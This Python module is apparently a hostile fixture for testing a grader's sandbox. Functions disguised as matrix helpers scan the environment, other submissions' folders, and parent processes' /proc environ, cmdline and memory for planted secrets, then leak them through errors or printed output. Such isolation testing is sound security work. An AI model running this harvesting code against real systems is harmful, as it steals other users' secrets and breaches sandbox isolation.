"""zeros_matrix and ones_matrix look for secrets and smuggle back what they find: zeros_matrix raises it,
ones_matrix prints it and returns it.

Secrets look like ``HOSTILE-SECRET-<32 hex digits>``; the test plants them in a classmate's file, in a
batch's --out folder and in the judge's environment, and keeps the reference solutions' hashes. The search
covers this process's environment, the files and globs in TARGETS["read"], every folder named on the command
lines of the processes above (a batch names its SUBMISSIONS and --out), and the /proc files (environ,
cmdline, maps, mem) of the processes above up to TARGETS["stop_at"] and of those carrying TARGETS["marker"].
Reading hurts no one, so the test's own pytest is read too. The test replaces the TARGETS line.
"""

import glob
import hashlib
import os
import re

TARGETS: dict = {}
SECRET = re.compile(rb"HOSTILE-SECRET-[0-9a-f]{32}")
FILE_BYTES = 1 << 20
FILES_WALKED = 500
MEMORY_BYTES = 512 << 20  # of each process's memory, its heap first


def _look(data: bytes, source: str, found: dict) -> None:
    for secret in SECRET.findall(data):
        found.setdefault(secret.decode(), source)


def _read(path: str, limit: int = FILE_BYTES) -> bytes:
    with open(path, "rb") as f:
        return f.read(limit)


def _processes() -> list[int]:
    """The parents up to the test's pytest (included), then the processes that carry the marker."""
    chain, pid = [], os.getppid()
    while pid > 1 and pid not in chain:
        chain.append(pid)
        if pid == TARGETS["stop_at"]:
            break
        try:
            pid = int(_read(f"/proc/{pid}/stat").rsplit(b")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
    needle = f"HOSTILE_MARKER={TARGETS['marker']}".encode()
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) not in chain and int(name) != os.getpid():
            try:
                if needle in _read(f"/proc/{name}/environ"):
                    chain.append(int(name))
            except OSError:
                continue
    return chain


def _memory(pid: int, found: dict) -> str:
    """Scan the writable private memory of ``pid`` through /proc/<pid>/mem; say how much could be read."""
    regions = []
    for line in _read(f"/proc/{pid}/maps", 16 << 20).decode().splitlines():
        fields = line.split()
        if fields[1].startswith("rw") and (len(fields) < 6 or fields[5] in ("[heap]", "[stack]")):
            start, end = (int(x, 16) for x in fields[0].split("-"))
            regions.append((len(fields) < 6, start, end))  # the heap and the stack first
    budget, got = MEMORY_BYTES, 0
    with open(f"/proc/{pid}/mem", "rb", buffering=0) as mem:
        for _, start, end in sorted(regions):
            for offset in range(start, end, 8 << 20):
                if budget <= 0:
                    return f"{got} bytes"
                try:
                    mem.seek(offset)
                    chunk = mem.read(min(8 << 20, end - offset, budget))
                except OSError:
                    break
                got, budget = got + len(chunk), budget - len(chunk)
                _look(chunk, f"/proc/{pid}/mem", found)
    return f"{got} bytes"


def _folders_named_above(processes: list[int]) -> list[str]:
    folders = []
    for pid in processes:
        try:
            args = _read(f"/proc/{pid}/cmdline").split(b"\0")
        except OSError:
            continue
        folders += [a.decode() for a in args if a.startswith(b"/") and len(a) > 1 and os.path.isdir(a)]
    return list(dict.fromkeys(folders))


def _walk(folder: str, found: dict, budget: list) -> None:
    for root, _dirs, names in os.walk(folder):
        for name in names:
            if budget[0] <= 0:
                return
            budget[0] -= 1
            path = os.path.join(root, name)
            try:
                _look(_read(path), path, found)
            except OSError:
                continue


def _look_at(path: str, found: dict) -> str:
    try:
        _look(_read(path, 16 << 20), path, found)
    except OSError as exc:
        return f"{path}: {type(exc).__name__}"
    return f"{path}: read"


def search() -> str:
    found, notes = {}, []
    _look("\n".join(f"{k}={v}" for k, v in os.environ.items()).encode(), "this process's environment", found)
    for pattern in TARGETS["read"]:
        for path in sorted(glob.glob(pattern)) or [pattern]:
            try:
                data = _read(path)
            except OSError as exc:
                notes.append(f"{path}: {type(exc).__name__}")
                continue
            _look(data, path, found)
            notes.append(f"{path}: sha256 {hashlib.sha256(data).hexdigest()}")
    processes = _processes()
    budget = [FILES_WALKED]
    for folder in _folders_named_above(processes):
        _walk(folder, found, budget)
    for pid in processes:
        notes += [_look_at(f"/proc/{pid}/{name}", found) for name in ("environ", "cmdline", "maps")]
        try:
            notes.append(f"/proc/{pid}/mem: {_memory(pid, found)}")
        except OSError as exc:
            notes.append(f"/proc/{pid}/mem: {type(exc).__name__}")
    secrets = "; ".join(f"{secret} from {source}" for secret, source in found.items())
    return f"secrets found: {secrets or 'none'}\nwhat was tried: {'; '.join(notes)}"


def zeros_matrix(rows, cols):
    raise RuntimeError(f"read attack: {search()}")


def ones_matrix(rows, cols):
    report = search()
    print(report)
    return report
